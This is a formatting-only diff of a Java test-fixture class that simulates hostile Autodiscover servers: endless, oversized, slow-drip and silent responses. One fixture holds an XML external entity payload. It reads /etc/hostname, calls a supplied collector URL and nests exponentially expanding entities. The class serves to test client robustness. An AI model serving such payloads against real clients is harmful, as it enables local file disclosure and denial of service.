@@ -8,9 +8,8 @@ import org.hopscope.lab.net.Listener;
 /** Servers that mean harm, or are broken beyond manners. */
 public final class Hostile {
   private static final String XML = "text/xml; charset=utf-8";
-  private static final String PROLOGUE =
-      "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n"
-          + "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006\">\r\n";
+  private static final String PROLOGUE = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n"
+      + "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006\">\r\n";
   private static final Duration FOREVER = Duration.ofDays(1);
 
   private Hostile() {}
@@ -26,14 +25,13 @@ public final class Hostile {
   /** Answers, and does not stop. */
   public static WebService endlessBody() {
     byte[] block = "<!-- more to come -->\r\n".repeat(700).getBytes(StandardCharsets.UTF_8);
-    return request ->
-        WebResponse.streamed(200, XML, WebResponse.UNKNOWN, out -> {
-          out.write(PROLOGUE.getBytes(StandardCharsets.UTF_8));
-          while (true) {
-            out.write(block);
-            Thread.sleep(5);
-          }
-        });
+    return request -> WebResponse.streamed(200, XML, WebResponse.UNKNOWN, out -> {
+      out.write(PROLOGUE.getBytes(StandardCharsets.UTF_8));
+      while (true) {
+        out.write(block);
+        Thread.sleep(5);
+      }
+    });
   }
 
   /** Ten megabytes of well-formed XML. */
@@ -43,41 +41,38 @@ public final class Hostile {
     byte[] end = "</Autodiscover>\r\n".getBytes(StandardCharsets.UTF_8);
     int times = 10 * 1024 * 1024 / filler.length;
     long length = start.length + (long) times * filler.length + end.length;
-    return request ->
-        WebResponse.streamed(200, XML, length, out -> {
-          out.write(start);
-          for (int i = 0; i < times; i++) {
-            out.write(filler);
-          }
-          out.write(end);
-        });
+    return request -> WebResponse.streamed(200, XML, length, out -> {
+      out.write(start);
+      for (int i = 0; i < times; i++) {
+        out.write(filler);
+      }
+      out.write(end);
+    });
   }
 
   /** An external entity that would send a local file to {@code collector}, and entities that explode. */
   public static WebService externalEntity(String collector) {
-    String document =
-        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<!DOCTYPE Autodiscover [\r\n"
-            + "<!ENTITY file SYSTEM \"file:///etc/hostname\">\r\n"
-            + "<!ENTITY call SYSTEM \"" + collector + "\">\r\n"
-            + "<!ENTITY a \"aaaaaaaaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\r\n"
-            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>\r\n"
-            + "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006\">"
-            + "<Response xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a\">"
-            + "<User><DisplayName>&file;&call;&d;</DisplayName></User></Response></Autodiscover>";
+    String document = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<!DOCTYPE Autodiscover [\r\n"
+        + "<!ENTITY file SYSTEM \"file:///etc/hostname\">\r\n"
+        + "<!ENTITY call SYSTEM \"" + collector + "\">\r\n"
+        + "<!ENTITY a \"aaaaaaaaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\r\n"
+        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>\r\n"
+        + "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/responseschema/2006\">"
+        + "<Response xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a\">"
+        + "<User><DisplayName>&file;&call;&d;</DisplayName></User></Response></Autodiscover>";
     return request -> WebResponse.of(200, XML, document);
   }
 
   /** A good answer, one byte every half second. */
   public static WebService slowDrip() {
     byte[] document = (PROLOGUE + "<Response/></Autodiscover>").getBytes(StandardCharsets.UTF_8);
-    return request ->
-        WebResponse.streamed(200, XML, document.length, out -> {
-          for (byte one : document) {
-            out.write(one);
-            out.flush();
-            Thread.sleep(500);
-          }
-        });
+    return request -> WebResponse.streamed(200, XML, document.length, out -> {
+      for (byte one : document) {
+        out.write(one);
+        out.flush();
+        Thread.sleep(500);
+      }
+    });
   }
 
   /** Takes the connection, listens, and says nothing. */
